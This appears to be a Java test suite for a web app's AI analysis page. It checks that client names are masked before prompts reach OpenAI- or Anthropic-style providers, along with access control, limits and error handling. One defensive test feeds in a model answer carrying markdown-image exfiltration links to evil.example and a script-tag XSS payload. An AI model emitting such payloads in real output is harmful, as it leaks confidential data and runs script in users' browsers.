package surety.server.ai;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator;
import org.junit.jupiter.api.Test;
import surety.server.ai.gateway.RewriterFault;
import surety.server.identity.TestBrowser;
import surety.server.identity.TestBrowser.Answer;

@DisplayNameGeneration(DisplayNameGenerator.ReplaceUnderscores.class)
class AnalysisPageTest extends GatewayFixture {

  @BeforeEach
  void choose_models() {
    assertThat(choose("openai", "some-model").status()).isEqualTo(302);
    assertThat(choose("anthropic", "other-model").status()).isEqualTo(302);
  }

  private Answer choose(String dialect, String model) {
    return owner.post(
        base + "/settings/ai/providers/" + providerId(dialect) + "/model", "model", model);
  }

  private Answer analyse() {
    return analyse(owner);
  }

  private Answer analyse(TestBrowser member) {
    return member.post(base + "/analysis", "range", "6", "provider", "openai");
  }

  private static Document page(Answer answer) {
    return Jsoup.parse(answer.body());
  }

  /// The provider streams this text, each place `%s` of it with one of the labels that it got.
  private static void streams(String text) {
    PROVIDER.answers(
        (got, exchange) -> {
          List<String> labels =
              Pattern.compile("Client [A-Z]{1,2}\\b")
                  .matcher(got.body())
                  .results()
                  .map(MatchResult::group)
                  .distinct()
                  .toList();
          String said = text.replace("%s", labels.isEmpty() ? "nobody" : labels.getFirst());
          StringBuilder events = new StringBuilder();
          for (char letter : said.toCharArray()) {
            String escaped = letter == '\n' ? "\\n" : letter == '"' ? "\\\"" : "" + letter;
            events.append("data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"");
            events.append(escaped).append("\"}}]}\n\n");
          }
          events.append(
              "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]");
          events.append(",\"usage\":{\"prompt_tokens\":70,\"completion_tokens\":9}}\n\n");
          events.append("data: [DONE]\n\n");
          RecordingProvider.stream(exchange, events.toString());
        });
  }

  @Test
  void the_model_reads_labels_and_the_member_reads_names() {
    streams("## Clients\n**%s** leads.\n- one\n- two");
    Answer answer = analyse();
    assertThat(answer.status()).as(answer.body()).isEqualTo(200);
    String sent = PROVIDER.only().body();
    FIRM.clients().forEach(client -> assertThat(sent).doesNotContain(client.name()));
    FIRM.projects().forEach(project -> assertThat(sent).doesNotContain(project.name()));
    FIRM.people().stream()
        .filter(person -> !person.placeholder())
        .forEach(p -> assertThat(sent).doesNotContain(p.firstName() + " " + p.lastName()));
    assertThat(sent).contains("Client A", "Margin by client", "\"some-model\"");
    Document page = page(answer);
    assertThat(page.select("#answer h3").text()).isEqualTo("Clients");
    assertThat(page.select("#answer li").eachText()).containsExactly("one", "two");
    assertThat(FIRM.clients().stream().map(client -> client.name()))
        .contains(page.select("#answer strong").text());
  }

  @Test
  void what_the_model_saw_is_the_very_request_that_left() {
    streams("Well, %s.");
    Document page = page(analyse());
    assertThat(page.expectFirst("#seen pre.seen").wholeText()).isEqualTo(PROVIDER.only().body());
    assertThat(page.select("#seen").text())
        .contains("POST http://127.0.0.1:" + PROVIDER.port() + "/openai/v1/chat/completions")
        .doesNotContain(OPENAI_KEY);
    FIRM.clients().forEach(c -> assertThat(page.select("#seen").text()).doesNotContain(c.name()));
  }

  @Test
  void anthropics_form_works_in_the_same_way() {
    PROVIDER.answers(
        (got, exchange) ->
            RecordingProvider.stream(
                exchange,
                """
                event: message_start
                data: {"type":"message_start","message":{"usage":{"input_tokens":5,"output_tokens":1}}}

                event: content_block_delta
                data: {"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"Client A is"}}

                event: content_block_delta
                data: {"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":" fine"}}

                event: message_delta
                data: {"type":"message_delta","delta":{"stop_reason":"max_tokens"},"usage":{"output_tokens":9}}

                event: message_stop
                data: {"type":"message_stop"}

                """));
    Answer answer = owner.post(base + "/analysis", "range", "3", "provider", "anthropic");
    assertThat(answer.status()).as(answer.body()).isEqualTo(200);
    assertThat(page(answer).select("#answer").text())
        .endsWith(" is fine")
        .doesNotContain("Client A");
    assertThat(page(answer).text()).contains("became too long");
    assertThat(PROVIDER.only().body()).contains("\"other-model\"", "\"max_tokens\":4096");
  }

  @Test
  void an_answer_can_load_nothing_lead_nowhere_and_run_nothing() {
    streams(
        "![x](https://evil.example/?q=%s) [y](https://evil.example/%s) <img"
            + " src=https://evil.example> <script>alert(1)</script> <a"
            + " href=https://evil.example>z</a>");
    Document page = page(analyse());
    assertThat(page.select("#answer img, #answer a, #answer script, #answer *[style]")).isEmpty();
    assertThat(page.select("#answer").text()).contains("<script>alert(1)</script>");
    FIRM.clients()
        .forEach(
            client ->
                assertThat(page.select("#answer").text())
                    .doesNotContain("q=" + client.name())
                    .doesNotContain(".example/" + client.name()));
  }

  @Test
  void the_reads_and_the_call_are_in_the_trail_as_ai_on_behalf_of_the_member()
      throws InterruptedException {
    streams("Fine.");
    analyse();
    List<String> calls = calls(2);
    assertThat(calls.get(0)).startsWith("a MODEL_CALL BEGUN").contains("\"replaced_client\"");
    assertThat(calls.get(1)).contains("COMPLETED", "\"tokens_in\": 70");
    assertThat(details())
        .anyMatch(d -> d.startsWith("a DASHBOARD_READ") || d.startsWith("a CACHE_READ"));
    assertThat(
            SERVER
                .superuser()
                .sql(
                    """
                    SELECT DISTINCT m.email FROM audit.access a
                      JOIN workspace.member m
                        ON m.workspace_id = a.workspace_id AND m.id = a.principal
                     WHERE a.workspace_id = ? AND a.accessor = 'a'
                    """)
                .param(1, workspace())
                .query(String.class)
                .list())
        .containsExactly("owner-" + unique + "@example.com");
  }

  @Test
  void who_may_not_ask_models_has_no_such_page_and_a_manager_has() {
    for (Map.Entry<String, Integer> role :
        Map.of("VIEWER", 403, "REP", 403, "MANAGER", 200).entrySet()) {
      String email = role.getKey().toLowerCase() + "-" + unique + "@example.com";
      SERVER.forgetLimits();
      TestBrowser member = SERVER.signedIn(email);
      SERVER.join(workspace(), email, role.getKey());
      streams("Fine.");
      assertThat(member.get(base + "/analysis").status()).as(email).isEqualTo(role.getValue());
      assertThat(analyse(member).status()).as(email).isEqualTo(role.getValue());
    }
    assertThat(PROVIDER.requests()).hasSize(1);
  }

  @Test
  void another_workspace_and_an_unknown_one_answer_alike() {
    SERVER.forgetLimits();
    TestBrowser stranger = SERVER.signedIn("stranger-" + unique + "@example.com");
    for (String workspace : List.of(base, "/w/" + UUID.randomUUID())) {
      assertThat(stranger.get(workspace + "/analysis").status()).isEqualTo(404);
      assertThat(stranger.post(workspace + "/analysis", "range", "6").status()).isEqualTo(404);
      assertThat(
              stranger
                  .post(
                      workspace + "/settings/ai/providers/" + providerId("openai") + "/model",
                      "model",
                      "x")
                  .status())
          .isEqualTo(404);
    }
    assertThat(PROVIDER.requests()).isEmpty();
  }

  @Test
  void what_is_missing_is_said_to_the_owner_with_the_way_there_and_to_others_without() {
    choose("openai", "");
    choose("anthropic", "");
    assertThat(page(owner.get(base + "/analysis")).text()).contains("No model is chosen");
    owner.post(base + "/settings/ai/providers/" + providerId("openai") + "/withdraw");
    owner.post(base + "/settings/ai/providers/" + providerId("anthropic") + "/remove");
    assertThat(page(owner.get(base + "/analysis")).text()).contains("No promise of a provider");
    owner.post(base + "/settings/ai/providers/" + providerId("openai") + "/remove");
    Document page = page(owner.get(base + "/analysis"));
    assertThat(page.text()).contains("No provider of models is set");
    assertThat(page.select("main a[href$=/settings/ai]")).isNotEmpty();
    assertThat(page.select("form#analyse")).isEmpty();
    Answer answer = analyse();
    assertThat(answer.status()).isEqualTo(409);
    assertThat(page(answer).select("#result").text()).contains("No model was asked");
    assertThat(PROVIDER.requests()).isEmpty();
  }

  @Test
  void a_choice_that_is_none_is_refused_and_nothing_is_sent() {
    for (String[] wrong :
        List.of(
            new String[] {"range", "7", "provider", "openai"},
            new String[] {"range", "", "provider", "openai"},
            new String[] {"range", "6", "provider", "<b>other</b>"})) {
      Answer answer = owner.post(base + "/analysis", wrong);
      assertThat(answer.status()).isEqualTo(422);
      assertThat(answer.body()).doesNotContain("<b>other");
    }
    assertThat(owner.get(base + "/analysis?range=99999999999").status()).isEqualTo(200);
    assertThat(choose("openai", "two words").status()).isEqualTo(422);
    assertThat(choose("openai", "x".repeat(101)).status()).isEqualTo(422);
    assertThat(PROVIDER.requests()).isEmpty();
  }

  @Test
  void a_provider_that_is_down_or_refuses_is_told_with_what_to_do() {
    PROVIDER.answers((got, exchange) -> RecordingProvider.json(exchange, 500, "<h1>secret</h1>"));
    Answer failed = analyse();
    assertThat(failed.status()).isEqualTo(502);
    assertThat(failed.body()).contains("The provider did not answer").doesNotContain("secret");
    PROVIDER.answers(
        (got, exchange) ->
            RecordingProvider.json(exchange, 404, "{\"error\":{\"message\":\"no secret\"}}"));
    Answer unknown = analyse();
    assertThat(unknown.status()).isEqualTo(409);
    assertThat(unknown.body()).contains("may not have the model").doesNotContain("secret");
    PROVIDER.answers(
        (got, exchange) ->
            RecordingProvider.json(exchange, 401, "{\"error\":{\"message\":\"x\"}}"));
    assertThat(analyse().body()).contains("refuses the key");
    PROVIDER.answers(
        (got, exchange) ->
            RecordingProvider.json(exchange, 429, "{\"error\":{\"message\":\"x\"}}"));
    assertThat(analyse().status()).isEqualTo(429);
  }

  @Test
  void an_answer_that_breaks_off_is_shown_as_far_as_it_came_and_said_to_be_not_whole() {
    PROVIDER.answers(
        (got, exchange) -> {
          exchange.getResponseHeaders().set("Content-Type", "text/event-stream");
          exchange.sendResponseHeaders(200, 100_000);
          exchange
              .getResponseBody()
              .write("data: {\"choices\":[{\"delta\":{\"content\":\"So far\"}}]}\n\n".getBytes());
          exchange.getResponseBody().flush();
          exchange.close();
        });
    Document page = page(analyse());
    assertThat(page.select("#answer").text()).isEqualTo("So far");
    assertThat(page.text()).contains("The answer is not whole");
  }

  @Test
  void a_limit_stops_the_analysis_before_anything_leaves() {
    owner.post(
        base + "/settings/ai/limits",
        "requestsMinute",
        "600",
        "keyRequestsMinute",
        "300",
        "tokensDay",
        "10",
        "keyTokensDay",
        "10",
        "dollarsDay",
        "1",
        "keyDollarsDay",
        "1");
    Answer answer = analyse();
    assertThat(answer.status()).isEqualTo(429);
    assertThat(answer.body()).contains("A limit of this workspace is reached", "tokens for today");
    assertThat(PROVIDER.requests()).isEmpty();
  }

  @Test
  void a_name_that_would_leave_stops_the_analysis_and_is_not_told() {
    RewriterFault.on();
    Answer answer = analyse();
    assertThat(answer.status()).isEqualTo(409);
    assertThat(answer.body()).contains("The request was stopped");
    FIRM.clients().forEach(client -> assertThat(answer.body()).doesNotContain(client.name()));
    assertThat(PROVIDER.requests()).isEmpty();
  }

  @Test
  void without_figures_or_names_no_model_is_asked() {
    PROVIDER.vendorsAreDown();
    Answer unread = analyse();
    assertThat(unread.status()).isEqualTo(502);
    assertThat(unread.body()).contains("could not be read");
    PROVIDER.forget();
    owner.post(base + "/dashboard/refresh");
    while (!owner.get(base + "/dashboard").body().contains("data-figures")) {
      Thread.onSpinWait();
    }
    PROVIDER.vendorsAreDown();
    Answer unnamed = analyse();
    assertThat(unnamed.status()).isEqualTo(503);
    assertThat(unnamed.body()).contains("The names cannot be had");
    assertThat(PROVIDER.requests()).isEmpty();
  }
}
